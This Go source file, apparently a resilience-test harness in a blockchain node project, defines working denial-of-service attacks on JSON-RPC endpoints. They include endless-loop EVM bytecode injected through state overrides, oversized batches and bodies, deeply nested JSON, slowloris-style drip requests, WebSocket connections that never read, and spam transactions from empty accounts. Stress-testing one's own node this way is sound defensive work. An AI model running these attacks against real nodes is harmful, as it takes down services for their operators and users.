package rpcabuse

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"github.com/holiman/uint256"

	"github.com/aiwork/aiwork-node/crypto/secp"
	"github.com/aiwork/aiwork-node/internal/chain"
)

const (
	place     = "0x00000000000000000000000000000000000c0de1"
	loop      = "0x5b5f56"                   // JUMPDEST, PUSH0, JUMP
	hashing   = "0x5b6120005f20505f56"       // Keccak of 8 KiB, for ever
	writing   = "0x5f5b808055600101600156"   // another slot each time
	growing   = "0x5b5a59525f56"             // memory, word by word
	callsSelf = "0x5b5f5f5f5f5f305af1505f56" // calls itself to the greatest depth
	bodyBytes = 25 << 20
	holdFor   = 20 * time.Second
)

// All gives every attack. Worthless transactions are signed for the chain by accounts that own nothing.
func All(chainID uint64) []Attack {
	override := func(code string) string { return fmt.Sprintf(`{%q:{"code":%q}}`, place, code) }
	to := fmt.Sprintf(`{"to":%q}`, place)
	with := func(code string) string { return fmt.Sprintf(`[%s,"latest",%s]`, to, override(code)) }
	traced := fmt.Sprintf(`[%s,"latest",{"stateOverrides":%s}]`, to, override(hashing))
	return []Attack{
		{"all logs", 2, call("eth_getLogs", `[{"fromBlock":"0x0","toBlock":"latest"}]`)},
		{"logs of many topics", 2, call("eth_getLogs", manyTopics())},
		{"endless call", 4, call("eth_call", with(loop))},
		{"endless hashing", 2, call("eth_call", with(hashing))},
		{"endless writing", 2, call("eth_call", with(writing))},
		{"growing memory", 2, call("eth_call", with(growing))},
		{"deep calls", 2, call("eth_call", with(callsSelf))},
		{"endless estimate", 4, call("eth_estimateGas", with(loop))},
		{"access list of a loop", 2, call("eth_createAccessList", with(writing))},
		{"trace of a loop", 2, call("debug_traceCall", traced)},
		{"trace of blocks", 2, call("debug_traceBlockByNumber", `["latest",{}]`)},
		{"simulation of many blocks", 2, call("eth_simulateV1", manyBlocks(override(loop), to))},
		{"full batch of blocks", 2, call1000("eth_getBlockByNumber", `["latest",true]`)},
		{"full batch of calls", 2, call1000("eth_call", with(hashing))},
		{"batch over the limit", 1, batchShot(1001, "eth_blockNumber", `[]`)},
		{"large body", 2, largeBody},
		{"deeply nested body", 2, nested},
		{"broken JSON", 2, broken},
		{"foreign origin", 2, foreign},
		{"filters", 4, call("eth_newFilter", `[{}]`)},
		{"sockets that never read", 16, deafSocket},
		{"requests without an end", 32, slowRequest},
		{"worthless transactions", 2, worthless(chainID)},
	}
}

func manyTopics() string {
	var topics []string
	for i := range 1000 {
		topics = append(topics, fmt.Sprintf(`"0x%064x"`, i+1))
	}
	return `[{"fromBlock":"0x0","toBlock":"latest","topics":[[` + strings.Join(topics, ",") + `]]}]`
}

func manyBlocks(overrides, to string) string {
	block := fmt.Sprintf(`{"stateOverrides":%s,"calls":[%s,%s]}`, overrides, to, to)
	return `[{"blockStateCalls":[` + strings.Repeat(block+",", 255) + block + `]},"latest"]`
}

func batch(n int, method, params string) string {
	one := request(method, params)
	return "[" + strings.Repeat(one+",", n-1) + one + "]"
}

func batchShot(n int, method, params string) func(context.Context, *target) ([]byte, error) {
	body := batch(n, method, params)
	return func(ctx context.Context, t *target) ([]byte, error) { return t.post(ctx, strings.NewReader(body)) }
}

func call1000(method, params string) func(context.Context, *target) ([]byte, error) {
	return batchShot(1000, method, params)
}

func largeBody(ctx context.Context, t *target) ([]byte, error) {
	junk := io.LimitReader(zeros{}, bodyBytes)
	return t.post(ctx, io.MultiReader(strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"web3_sha3","params":["0x`), junk, strings.NewReader(`"]}`)))
}

// zeros reads as the digit 0 for ever.
type zeros struct{}

func (zeros) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = '0'
	}
	return len(b), nil
}

func nested(ctx context.Context, t *target) ([]byte, error) {
	return t.post(ctx, strings.NewReader(strings.Repeat("[", 1<<20)))
}

func broken(ctx context.Context, t *target) ([]byte, error) {
	bodies := []string{`{`, `null`, `"x"`, `[]`, `{"method":1}`, `{"jsonrpc":"2.0","id":{},"method":"eth_call","params":{}}`, "\x00\xff"}
	return t.post(ctx, strings.NewReader(bodies[t.n%len(bodies)]))
}

func foreign(ctx context.Context, t *target) ([]byte, error) {
	return t.post(ctx, strings.NewReader(request("eth_accounts", `[]`)), "Origin", "https://evil.example")
}

// deafSocket subscribes to everything over a WebSocket and does not read, until the node has had enough.
func deafSocket(ctx context.Context, t *target) ([]byte, error) {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", t.host)
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	hello := "GET / HTTP/1.1\r\nHost: " + t.host + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n" +
		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
	if _, err := conn.Write([]byte(hello)); err != nil {
		return nil, err
	}
	for _, what := range []string{`["newHeads"]`, `["logs",{}]`, `["newPendingTransactions"]`} {
		if _, err := conn.Write(frame(request("eth_subscribe", what))); err != nil {
			return nil, err
		}
	}
	// Answers to large requests fill the buffers between us, which nobody empties.
	for ctx.Err() == nil {
		if err := conn.SetWriteDeadline(time.Now().Add(holdFor)); err != nil {
			return nil, err
		}
		if _, err := conn.Write(frame(batch(100, "eth_getBlockByNumber", `["latest",true]`))); err != nil {
			return nil, err
		}
	}
	return nil, ctx.Err()
}

// frame is a masked text frame (RFC 6455); the mask is zero.
func frame(text string) []byte {
	b := []byte{0x81}
	switch n := len(text); {
	case n < 126:
		b = append(b, 0x80|byte(n))
	case n < 1<<16:
		b = binary.BigEndian.AppendUint16(append(b, 0x80|126), uint16(n))
	default:
		b = binary.BigEndian.AppendUint64(append(b, 0x80|127), uint64(n))
	}
	return append(append(b, 0, 0, 0, 0), text...)
}

// slowRequest sends a byte of a request now and then, until the node hangs up.
func slowRequest(ctx context.Context, t *target) ([]byte, error) {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", t.host)
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	text := "POST / HTTP/1.1\r\nHost: " + t.host + "\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"
	again := time.NewTicker(200 * time.Millisecond)
	defer again.Stop()
	for i := 0; ; i++ {
		if _, err := conn.Write([]byte{text[min(i, len(text)-1)]}); err != nil {
			return nil, err
		}
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		case <-again.C:
		}
	}
}

// worthless signs transfers by accounts that own nothing: the node has to recover each sender to find out.
func worthless(chainID uint64) func(context.Context, *target) ([]byte, error) {
	return func(ctx context.Context, t *target) ([]byte, error) {
		var secret [32]byte
		if _, err := rand.Read(secret[1:]); err != nil {
			return nil, err
		}
		key, err := secp.ParsePrivateKey(secret)
		if err != nil {
			return nil, err
		}
		tx := &chain.Tx{
			Type: chain.TxTypeDynamicFee, Gas: chain.TxGas, To: &chain.Address{1}, GasFeeCap: *uint256.NewInt(1e12), GasTipCap: *uint256.NewInt(1e12),
		}
		signed, err := chain.SignTx(tx, key, chainID)
		if err != nil {
			return nil, err
		}
		return t.post(ctx, strings.NewReader(request("eth_sendRawTransaction", `["0x`+hex.EncodeToString(signed.Encode())+`"]`)))
	}
}
